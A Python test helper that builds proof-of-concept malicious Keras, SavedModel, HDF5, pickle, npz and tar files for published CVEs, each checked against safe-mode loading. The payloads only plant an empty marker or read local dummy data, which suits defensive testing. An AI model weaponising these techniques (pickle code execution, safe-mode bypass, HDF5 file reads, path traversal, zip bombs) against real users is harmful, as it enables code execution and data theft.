"""Files that attack whoever loads them, as published. Each plants an empty marker, or takes numbers from another file.

`ATTACKS` has, for each attack, the function that writes its file and one that shows the file to be live: it reads as an
unguarded reader does, or does what an older Keras did.
"""

import base64
import dataclasses
import io
import math
import os
import pickle
import tarfile
import zipfile
from collections.abc import Callable

import h5py
import keras
import numpy as np
import tensorflow as tf

from tests.helpers.keras_files import archive, calls, described, layer, loads, obey, unsafe

STOLEN = np.array([[3.5], [-7.25]], np.float32)  # what is in a file that the attacker does not have


@dataclasses.dataclass(frozen=True)
class Attack:
    """An attack.

    Args:
        published: the advisory's number, or what else is known.
        write: function of (folder, marker) to the path of the file.
        read: function of a path that a careless reader is; returns what it read.
        stopped: whether the pinned Keras with safe_mode refuses the file; None where it reads no such file.
    """

    published: str
    write: Callable
    read: Callable
    stopped: bool | None = None


class Touch:
    """Plants the marker when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.mkdir, (str(self.marker),)


def harmed(marker, found):
    """Returns whether an attack succeeded, given what a reader returned."""
    if marker.exists():
        return True
    weights = found.get_weights() if isinstance(found, keras.Model) else [found]
    return any(np.array_equal(each, STOLEN) for each in weights if isinstance(each, np.ndarray))


def bytecode(suffix):
    """Returns the writer of a network with a Python lambda, whose bytecode plants the marker."""

    def write(folder, marker):
        inputs = keras.Input((2,))
        harm = eval(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]")
        keras.Model(inputs, keras.layers.Lambda(harm)(inputs)).save(folder / f"lambda{suffix}")
        marker.unlink()  # it was called while the network was made
        return folder / f"lambda{suffix}"

    return write


def switched_off(folder, marker):
    """Turns safe mode off, and then loads a second file."""
    second = bytecode(".keras")(folder, marker)
    off = calls("keras.src.backend.common.global_state.set_global_attribute", "safe_mode_saving", value=False)
    return archive(folder / "off.keras", [off, calls("keras.models.load_model", str(second), safe_mode=False)])


def fetched(folder, marker):
    (folder / "payload").write_bytes(b"")
    place = {"origin": (folder / "payload").as_uri(), "cache_dir": str(marker.parent), "cache_subdir": ""}
    return archive(folder / "fetched.keras", [calls("keras.utils.get_file", marker.name, **place)])


def vocabulary(folder, marker):
    """A layer whose words are the lines of somebody's file."""
    (folder / "secret").write_text("secret\n")
    return archive(folder / "words.keras", [layer("StringLookup", vocabulary=str(folder / "secret"))])


def words(path):
    """Returns what was stolen if the layer's words are known without safe mode."""
    found = keras.saving.deserialize_keras_object(described(path)[-1], safe_mode=False)
    return STOLEN if "secret" in found.get_vocabulary() else None


def pickled_module(folder, marker):
    content = base64.b64encode(pickle.dumps(Touch(marker))).decode()
    return archive(folder / "torch.keras", [layer("TorchModuleWrapper", module=content)])


def unpickled_module(path):
    pickle.loads(base64.b64decode(described(path)[-1]["config"]["module"]))


class Initialised(tf.saved_model.experimental.TrackableResource):
    """Writes the marker when the SavedModel that has it is loaded."""

    def __init__(self, marker):
        super().__init__()
        self.marker = marker
        self.made = self.resource_handle

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="harm")

    def _initialize(self):
        tf.io.write_file(str(self.marker), "")


def graph(folder, marker):
    """A SavedModel that writes the marker when it is loaded."""
    module = tf.Module()
    module.resource = Initialised(marker)
    module.serve = tf.function(lambda x: x, input_signature=[tf.TensorSpec((), tf.float32)])
    tf.saved_model.save(module, str(folder / "graph"), signatures=module.serve)
    marker.unlink(missing_ok=True)
    return folder / "graph"


def graph_layer(folder, marker):
    made = layer("TFSMLayer", filepath=str(graph(folder, marker)), call_endpoint="serve")
    return archive(folder / "layer.keras", [made])


def graph_function(folder, marker):
    """The class of a layer in the place of a function is not asked for safe mode."""
    return archive(folder / "named.keras", [calls("keras.layers.TFSMLayer", str(graph(folder, marker)))])


def gallery(folder, marker):
    """A public function of Keras that writes a picture to any path."""
    shown = calls("keras.visualization.plot_image_gallery", None, path=str(marker), rows=1, cols=1, value_range=[0, 1])
    pixels = {"class_name": "__tensor__", "config": {"value": np.zeros((1, 4, 4, 1)).tolist(), "dtype": "float32"}}
    shown["inbound_nodes"] = [{"args": [pixels], "kwargs": {}}]
    return archive(folder / "gallery.keras", [shown])


def weights(change):
    """Returns the writer of a network whose HDF5 weights are made by `change(group, folder)`."""

    def write(folder, marker):
        STOLEN.tofile(folder / "secret")
        with h5py.File(folder / "secret.h5", "w") as file:
            file["0"] = STOLEN
        content = io.BytesIO()
        with h5py.File(content, "w") as file:
            change(file.create_group("layers/dense/vars"), folder)
        return archive(folder / f"{change.__name__}.keras", weights=content.getvalue())

    return write


def external(group, folder):
    group.create_dataset("0", STOLEN.shape, "float32", external=[(str(folder / "secret"), 0, STOLEN.nbytes)])


def linked(group, folder):
    group["0"] = h5py.ExternalLink(str(folder / "secret.h5"), "0")


def virtual(group, folder):
    layout = h5py.VirtualLayout(STOLEN.shape, "float32")
    layout[:] = h5py.VirtualSource(str(folder / "secret.h5"), "0", STOLEN.shape)
    group.create_virtual_dataset("0", layout)


def huge(group, folder):
    group.create_dataset("0", (10**6, 10**6), "float32", chunks=(1000, 1000), compression="gzip")


def numbers(path):
    """Returns the weights of a .keras file as h5py reads them; raises MemoryError for those that no memory holds."""
    with zipfile.ZipFile(path) as file:
        file.extract("model.weights.h5", path.parent)  # links are followed from a file on the disk
    with h5py.File(path.parent / "model.weights.h5") as found:
        data = found["layers/dense/vars/0"]
        if 4 * math.prod(data.shape) > 10**12 > 10**6 > path.stat().st_size:
            raise MemoryError
        return data[()]


def bomb(folder, marker):
    """Weights of 30 MB, all zeros, in a file of a thousandth of that size."""
    return archive(folder / "bomb.keras", weights=bytes(30_000_000), compression=zipfile.ZIP_DEFLATED)


def inflated(path):
    """Raises MemoryError if the weights are 900 times larger in memory than the file."""
    with zipfile.ZipFile(path) as file:
        if len(file.read("model.weights.h5")) > 900 * path.stat().st_size:
            raise MemoryError


def pickle_file(folder, marker):
    (folder / "state.pickle").write_bytes(pickle.dumps(Touch(marker)))
    return folder / "state.pickle"


def object_arrays(folder, marker):
    np.savez(folder / "objects.npz", **{"a.weight": np.array([Touch(marker)], object)})
    return folder / "objects.npz"


def outside(folder, marker):
    """A .tar.gz whose member's name leads out of the folder."""
    with tarfile.open(folder / "outside.tar.gz", "w:gz") as file:
        file.addfile(tarfile.TarInfo(os.path.relpath(marker, folder)))
    return folder / "outside.tar.gz"


def extracted(path):
    with tarfile.open(path) as file:
        file.extractall(path.parent, filter="fully_trusted")


ATTACKS = {
    "bytecode": Attack("CVE-2024-3660", bytecode(".keras"), unsafe, True),
    "bytecode_hdf5": Attack("CVE-2025-9905", bytecode(".h5"), unsafe, True),
    "module": Attack("CVE-2025-1550", lambda f, m: archive(f / "m.keras", [calls("os.mkdir", str(m))]), obey, True),
    "download": Attack("CVE-2025-8747", fetched, obey, True),
    "switched_off": Attack("CVE-2025-9906", switched_off, obey, True),
    "vocabulary": Attack("CVE-2025-12058", vocabulary, words, True),
    "torch": Attack("CVE-2025-49655", pickled_module, unpickled_module, True),
    "graph_layer": Attack("CVE-2026-1462", graph_layer, unsafe, True),
    "graph_function": Attack("none; of Keras 3.15.0", graph_function, loads, False),
    "gallery": Attack("none; of Keras 3.14.1", gallery, loads, False),
    "external": Attack("CVE-2026-1669", weights(external), numbers, True),
    "linked": Attack("CVE-2026-1669", weights(linked), numbers, True),
    "virtual": Attack("CVE-2026-1669", weights(virtual), numbers, True),
    "huge": Attack("CVE-2026-0897", weights(huge), numbers, True),
    "bomb": Attack("none; Keras 3.12.3 has a limit", bomb, inflated, None),
    "graph": Attack("a SavedModel is a program", graph, lambda path: tf.saved_model.load(str(path))),
    "pickle": Attack("a pickle is a program", pickle_file, lambda path: pickle.loads(path.read_bytes())),
    "objects": Attack("a pickle is a program", object_arrays, lambda p: np.load(p, allow_pickle=True)["a.weight"]),
    "outside": Attack("CVE-2025-12060", outside, extracted),
}
